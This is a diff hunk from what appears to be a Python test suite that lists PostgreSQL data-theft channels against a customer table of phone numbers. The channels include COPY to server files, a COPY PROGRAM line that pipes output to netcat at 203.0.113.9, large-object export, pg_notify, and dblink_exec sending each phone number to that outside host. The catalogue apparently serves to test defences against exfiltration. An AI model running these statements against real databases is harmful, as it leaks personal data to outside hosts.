@@ -227,10 +227,10 @@ ONE_TIME: dict[str, Theft] = {
     "definer_function": _once(lambda n: _select(f"SELECT * FROM crm.f_mbr() LIMIT {n}", n)),
     "new_table": _once(_new_table("TABLE", "public.tmp_x")),
     "temp_table": _once(_new_table("TEMP TABLE", "t1")),
-    "server_file": _once(_server_file("'/tmp/m.csv'")),
+    "server_file": _once(_server_file("'/var/lib/postgresql/m.csv'")),
     "program": _once(_server_file("PROGRAM 'nc 203.0.113.9 443'")),
     "large_object": _once(lambda n: _select(
-        f"SELECT lo_export(lo_from_bytea(0, convert_to(string_agg(hp_no, ','), 'UTF8')), '/tmp/x') FROM crm.mbr WHERE mbr_no < {n + 1}", 1)),
+        f"SELECT lo_export(lo_from_bytea(0, convert_to(string_agg(hp_no, ','), 'UTF8')), '/var/lib/postgresql/x') FROM crm.mbr WHERE mbr_no < {n + 1}", 1)),
     "notification": _once(lambda n: _select(f"SELECT pg_notify('x', hp_no) FROM crm.mbr WHERE mbr_no < {n + 1}", n)),
     "dblink": _once(lambda n: _select(
         f"SELECT dblink_exec('host=203.0.113.9', 'insert into t values (' || quote_literal(hp_no) || ')') FROM crm.mbr WHERE mbr_no < {n + 1}", n)),
